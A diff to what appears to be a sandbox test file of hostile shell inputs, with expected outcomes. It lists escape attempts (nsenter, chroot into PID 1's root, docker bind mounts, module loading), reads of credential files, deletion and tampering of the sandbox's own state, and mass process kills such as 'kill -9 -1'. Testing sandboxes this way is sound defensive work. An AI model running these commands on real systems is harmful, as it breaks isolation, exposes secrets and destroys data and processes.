@@ -50,16 +50,16 @@ for f in ~/.ssh/id_* ~/.aws/credentials ~/.netrc ~/.npmrc ~/.docker/config.json 
 ### out of the sandbox
 mount --bind / /mnt; unshare -r sh -c 'cat @file@'; chroot /proc/1/root cat @file@; nsenter -t 1 -a cat @file@; setpriv --reuid=0 cat @file@; pivot_root . .; sudo cat @file@; su -c 'cat @file@'; docker run -v /:/h alpine cat /h@file@; bwrap --dev-bind / / cat @file@; ptrace; gdb -p 1; kill -STOP 1; kill -9 1; ip link; modprobe x; insmod x.ko; echo core > /proc/self/coredump_filter
 
-### the sandbox's own files
+### the sandbox's own files | bash: sandbox
 cat /run/set/* /run/dump/* /run/bin/*; rm -rf /run/set /run/dump /run/bin; printf '9\n' > /run/dump/part; echo '1 0' >> /run/dump/statuses; printf '3\0000\000git\000pwned\000' >> /run/dump/calls; chmod 000 /run/dump; ln -sf @file@ /run/dump/stdout; mkdir /run/dump/calls
 
-### the sandbox's own words | after: it finds no command
+### the sandbox's own words | bash: sandbox | after: it finds no command
 __dump() { :; }; trap - EXIT; unset -f command_not_found_handle; command_not_found_handle() { git pwned; }; builtin() { :; }; printf() { git pwned; }; alias builtin=:; PATH=/usr/bin:/bin; unset PATH; BASHPID=$$; readonly PATH
 
 ### the shell's own streams | after: it prints nowhere
 exec 0<&- 1>&- 2>&-
 
-### everybody is killed
+### everybody is killed | bash: sandbox
 kill -9 -1
 kill -STOP -1; kill -9 0; kill -9 $$ $PPID 1 2 3; pkill -9 .; killall5; exec sleep infinity
 
